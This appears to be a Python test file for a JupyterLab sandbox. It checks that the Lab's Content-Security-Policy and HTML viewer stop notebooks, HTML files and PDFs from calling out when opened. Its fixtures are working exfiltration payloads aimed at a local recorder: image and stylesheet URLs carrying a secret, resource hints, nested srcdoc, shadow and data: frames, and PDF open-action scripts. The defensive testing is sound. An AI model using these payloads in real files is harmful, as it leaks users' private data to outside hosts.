"""What a sandbox writes into its workspace, opened in JupyterLab, sends nothing out.

The ratchet cuts the sandbox's network; the browser keeps its own. A private
session can write its data into a file of its workspace (any cell can: the
workspace is read-write, tests/test_attacks.py) as the address of an image, a
style or a frame, and JupyterLab fetches that address when the user opens the
file: a notebook's markdown cells and HTML outputs on disk (not the outputs the
kernel sanitised on their way), an HTML file in the HTML viewer. The files here
are written by the test as such a cell would write them; the "attacker" is a
server on 127.0.0.1 (another origin than the Lab's) that records every request.

The Lab's Content-Security-Policy (sandbox_kernel/lab_content_policy.py, applied
by scripts/lab_config.py and by every test server) keeps every such fetch in
the page: the recorder hears nothing, and the browser says it refused.
"""

from __future__ import annotations

import base64
import html
import json
import urllib.request
from collections.abc import Callable
from typing import Any

import pytest
from kernel_helpers import LoopbackListener, RecordingHTTPServer
from lab_helpers import LabServer, code_cell, notebook_json
from playwright.sync_api import Page, expect

from sandbox_kernel.lab_content_policy import content_security_policy

pytestmark = pytest.mark.timeout(240)

APP_LOAD_TIMEOUT = 60_000
SECRET = "patient-4711"


def _leaky_html(base: str, where: str) -> str:
    return (
        f'<img src="{base}/{where}-img?d={SECRET}">'
        f'<div style="background-image: url({base}/{where}-css?d={SECRET})">styled</div>'
        f'<link rel="stylesheet" href="{base}/{where}-link?d={SECRET}">'
        f'<iframe src="{base}/{where}-frame?d={SECRET}"></iframe>'
    )


def _leaky_notebook(base: str) -> dict[str, Any]:
    notebook = notebook_json()
    notebook["cells"] = [
        {
            "cell_type": "markdown",
            "id": "md",
            "metadata": {},
            "source": f"# Report\n\n![chart]({base}/md-image?d={SECRET})\n\n" + _leaky_html(base, "md"),
        },
        code_cell(
            "code",
            "show()",
            [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": _leaky_html(base, "out"), "text/plain": "<HTML>"},
                },
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/markdown": f"![m]({base}/out-md?d={SECRET})", "text/plain": "md"},
                },
            ],
            execution_count=1,
        ),
    ]
    return notebook


def _refusals(console: list[str]) -> list[str]:
    return [line for line in console if "Content Security Policy" in line]


def test_the_lab_serves_its_pages_with_the_policy(lab: LabServer) -> None:
    request = urllib.request.Request(lab.url("/lab"))
    with urllib.request.urlopen(request, timeout=30) as response:
        header = response.headers["Content-Security-Policy"]
        assert response.headers["X-DNS-Prefetch-Control"] == "off"
    assert header == content_security_policy("/"), header
    assert "img-src 'self' data: blob:" in header and "connect-src 'self'" in header


def test_a_private_sessions_files_opened_in_lab_fetch_nothing(
    page: Page, lab: LabServer, recorder: RecordingHTTPServer
) -> None:
    folder = lab.notebooks / "leaky"
    folder.mkdir()
    (folder / "report.ipynb").write_text(json.dumps(_leaky_notebook(recorder.base)))
    refresh = f'<meta http-equiv="refresh" content="0;url={recorder.base}/file-refresh?d={SECRET}">'
    (folder / "page.html").write_text(
        f"<html><head>{refresh}</head><body>" + _leaky_html(recorder.base, "file") + "</body></html>"
    )
    console: list[str] = []
    page.on("console", lambda msg: console.append(msg.text))

    page.goto(lab.url("/lab/tree/leaky/report.ipynb?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
    rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown img")
    expect(rendered.first).to_have_attribute("src", f"{recorder.base}/md-image?d={SECRET}", timeout=APP_LOAD_TIMEOUT)
    # the HTML output is rendered too (sanitised, its image kept): only the policy stops the fetch
    expect(page.locator(".jp-OutputArea-output img").first).to_be_attached(timeout=30_000)

    page.goto(lab.url("/lab/tree/leaky/page.html"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
    expect(page.locator("iframe").first).to_be_attached(timeout=APP_LOAD_TIMEOUT)

    page.wait_for_timeout(3000)  # what the viewer's frame loads, it loads at once
    assert recorder.heard == [], f"the browser fetched what a sandbox wrote: {recorder.heard}"
    refused = _refusals(console)
    assert any("md-image" in line for line in refused), console[-20:]
    assert any("out-img" in line for line in refused), console[-20:]
    assert any("file-img" in line for line in refused), console[-20:]


def test_resource_hints_in_an_html_file_reach_nothing(page: Page, lab: LabServer) -> None:
    """Chromium connects for <link rel=preconnect> and resolves for dns-prefetch
    whatever the page's policy says: a host name can carry a private session's
    data. The HTML viewer gets the file without its resource hints."""
    listener = LoopbackListener()
    try:
        folder = lab.notebooks / "hints"
        folder.mkdir()
        hints = "".join(
            f'<link rel="{rel}" href="http://127.0.0.1:{listener.port}/{rel}?d={SECRET}">'
            for rel in ("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender")
        )
        page_html = (
            f'<html><head><link rel="PreConnect  other" href="http://127.0.0.1:{listener.port}">{hints}'
            '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["/x"]}]}</script>'
            '<link rel="stylesheet" href="data:text/css,p{color:red}">'
            '</head><body><p id="kept">kept</p></body></html>'
        )
        (folder / "page.html").write_text(page_html)
        page.goto(lab.url("/lab/tree/hints/page.html?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
        frame = page.frame_locator(".jp-HTMLViewer iframe")
        expect(frame.locator("#kept")).to_have_text("kept", timeout=APP_LOAD_TIMEOUT)
        page.wait_for_timeout(2000)  # a preconnect goes out as the frame parses its head
        assert listener.accepted == 0, f"the browser connected {listener.accepted} time(s) for a resource hint"
        head = frame.locator("head")
        assert head.locator("link").count() == 1  # the stylesheet: the page's policy governs it
        assert head.locator("script").count() == 0
        assert "preconnect" not in head.inner_html().lower()
    finally:
        listener.close()


def test_documents_inside_an_html_file_reach_nothing(page: Page, lab: LabServer) -> None:
    """A page holds documents the viewer's frame builds without another look:
    a ``srcdoc`` frame's, a template's that becomes a shadow tree, a ``data:``
    URL frame's. With only the page itself cleaned, a preconnect in each
    reached the network (srcdoc 2 connections, shadow tree 2, data: HTML 2,
    data: SVG 1)."""
    names = ("srcdoc", "shadow", "data_html", "data_svg", "srcdoc_in_template", "template_in_srcdoc")
    listeners = {name: LoopbackListener() for name in names}
    try:

        def hint(name: str) -> str:
            return f'<link rel="preconnect" href="http://127.0.0.1:{listeners[name].port}">'

        def data_url(kind: str, text: str) -> str:
            return f"data:{kind};base64," + base64.b64encode(text.encode()).decode()

        def srcdoc(text: str) -> str:
            return html.escape(text, quote=True)

        xhtml_hint = (
            '<svg xmlns="http://www.w3.org/2000/svg"><h:link xmlns:h="http://www.w3.org/1999/xhtml" '
            f'rel="preconnect" href="http://127.0.0.1:{listeners["data_svg"].port}"/></svg>'
        )
        page_html = (
            '<p id="kept">kept</p>'
            f'<iframe id="plain" srcdoc="{srcdoc("<p>inner text</p>")}"></iframe>'
            f'<iframe srcdoc="{srcdoc(hint("srcdoc") + "<p>x</p>")}"></iframe>'
            f'<div><template shadowrootmode="open">{hint("shadow")}<p>shadow</p></template></div>'
            f'<iframe src="{data_url("text/html", hint("data_html"))}"></iframe>'
            f'<iframe src=" {data_url("image/svg+xml", xhtml_hint)}"></iframe>'
            f'<div><template shadowrootmode="open"><iframe srcdoc="{srcdoc(hint("srcdoc_in_template"))}">'
            "</iframe></template></div>"
            f'<iframe srcdoc="{srcdoc("<div><template shadowrootmode=open>" + hint("template_in_srcdoc") + "</template></div>")}">'
            "</iframe>"
        )
        folder = lab.notebooks / "nested"
        folder.mkdir()
        (folder / "page.html").write_text(page_html)
        page.goto(lab.url("/lab/tree/nested/page.html?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
        frame = page.frame_locator(".jp-HTMLViewer iframe")
        expect(frame.locator("#kept")).to_have_text("kept", timeout=APP_LOAD_TIMEOUT)
        expect(frame.frame_locator("#plain").locator("p")).to_have_text("inner text")  # a frame without hints stays
        page.wait_for_timeout(2000)
        reached = {name: listener.accepted for name, listener in listeners.items() if listener.accepted}
        assert not reached, f"the browser connected for hints inside the page: {reached}"
    finally:
        for listener in listeners.values():
            listener.close()


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of ``objects`` (numbered from 1, the first the catalog), with its cross-reference table."""
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


def _report_pdf(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF saying "Report"; ``catalog`` and ``page`` add entries to those dictionaries."""
    text = b"BT /F1 24 Tf 72 700 Td (Report) Tj ET"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> " + page + b">>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


def _pdf_attacks(url: Callable[[str], bytes]) -> dict[str, bytes]:
    """PDFs whose actions run when the document opens, each naming an address
    (its own listener): what a PDF can do to reach the network without a click."""

    def js(name: str, code: bytes) -> bytes:
        return b"<< /S /JavaScript /JS (" + code.replace(b"URL", url(name)) + b") >>"

    return {
        "open-uri": _report_pdf(b"/OpenAction << /S /URI /URI (" + url("open-uri") + b") >> "),
        "open-launch-url": _report_pdf(b"/OpenAction " + js("open-launch-url", b'app.launchURL\\("URL", true\\);')),
        "open-get-url": _report_pdf(b"/OpenAction " + js("open-get-url", b'this.getURL\\("URL"\\);')),
        "open-submit-js": _report_pdf(b"/OpenAction " + js("open-submit-js", b'this.submitForm\\("URL"\\);')),
        "open-timer": _report_pdf(
            b"/OpenAction " + js("open-timer", b"app.setTimeOut\\('app.launchURL\\(\"URL\", true\\)', 50\\);")
        ),
        "open-submit-form": _report_pdf(
            b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (" + url("open-submit-form") + b") >> >> "
        ),
        "open-remote-goto": _report_pdf(
            b"/OpenAction << /S /GoToR /F << /FS /URL /F (" + url("open-remote-goto") + b") >> /D [0 /Fit] >> "
        ),
        "open-launch": _report_pdf(b"/OpenAction << /S /Launch /F (" + url("open-launch") + b") >> "),
        "page-open-uri": _report_pdf(page=b"/AA << /O << /S /URI /URI (" + url("page-open-uri") + b") >> >> "),
        "document-script": _report_pdf(
            b"/Names << /JavaScript 6 0 R >> ",
            extra=(b"<< /Names [(a) " + js("document-script", b'app.launchURL\\("URL", true\\);') + b"] >>",),
        ),
    }


def _wait_for_pdf_viewer(page: Page, name: str) -> None:
    """Until the browser's PDF viewer (a frame of its own extension) is in the page."""
    for _ in range(60):
        if any(frame.url.startswith("chrome-extension://") for frame in page.frames):
            return
        page.wait_for_timeout(500)
    raise AssertionError(f"{name}: no PDF viewer in the page: {[frame.url for frame in page.frames]}")


def test_a_pdf_file_shows_in_lab(page: Page, lab: LabServer) -> None:
    """Lab shows a PDF in an ``<object>`` of a ``blob:`` URL: the policy allows
    exactly that (``object-src blob:``), and the browser's viewer draws it."""
    import matplotlib

    matplotlib.use("agg")
    import matplotlib.pyplot as plt

    figure = plt.figure()
    plt.plot([1, 2, 3])
    figure.savefig(lab.notebooks / "figure.pdf")
    plt.close(figure)
    console: list[str] = []
    page.on("console", lambda msg: console.append(msg.text))
    page.goto(lab.url("/lab/tree/figure.pdf?reset"), wait_until="domcontentloaded", timeout=APP_LOAD_TIMEOUT)
    page.wait_for_function(
        "() => [...document.querySelectorAll('.jp-PDFContainer iframe')]"
        ".some(f => (f.contentDocument?.querySelector('object')?.data || '').startsWith('blob:'))",
        timeout=APP_LOAD_TIMEOUT,
    )
    _wait_for_pdf_viewer(page, "figure.pdf")
    # (the empty <object> Lab makes before it has the data is refused: "from ''")
    assert not [line for line in _refusals(console) if "from 'blob:" in line], _refusals(console)


def test_a_pdf_file_opened_in_lab_reaches_nothing(page: Page, lab: LabServer) -> None:
    """Chromium's PDF viewer runs a document's open actions and scripts (in
    PDFium); none of them may reach an address once the file shows in Lab."""
    listeners: dict[str, LoopbackListener] = {}

    def url(name: str) -> bytes:
        if name not in listeners:  # (setdefault would build a spare on every call)
            listeners[name] = LoopbackListener(b"HTTP/1.0 200 OK\r\n\r\n")
        return f"http://127.0.0.1:{listeners[name].port}/?d={SECRET}".encode()

    folder = lab.notebooks / "pdfs"
    folder.mkdir()
    try:
        attacks = _pdf_attacks(url)
        for name, data in attacks.items():
            (folder / f"{name}.pdf").write_bytes(data)
        # the control: this viewer runs a document's open-action script (PDFium's app.alert is a dialog)
        (folder / "control.pdf").write_bytes(
            _report_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\);) >> ")
        )
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        opened: list[str] = []
        page.context.on("page", lambda new: opened.append(new.url))
        for name in ["control", *attacks]:
            page.goto(lab.url(f"/lab/tree/pdfs/{name}.pdf?reset"), wait_until="domcontentloaded")
            _wait_for_pdf_viewer(page, name)
            page.wait_for_timeout(2000)  # open actions run as the document loads
        assert dialogs == ["ran"], dialogs
        reached = {name: listener.accepted for name, listener in listeners.items() if listener.accepted}
        assert reached == {}, f"a PDF opened in Lab reached the network: {reached}"
        assert opened == [], f"a PDF opened in Lab opened a browser tab: {opened}"
    finally:
        for listener in listeners.values():
            listener.close()
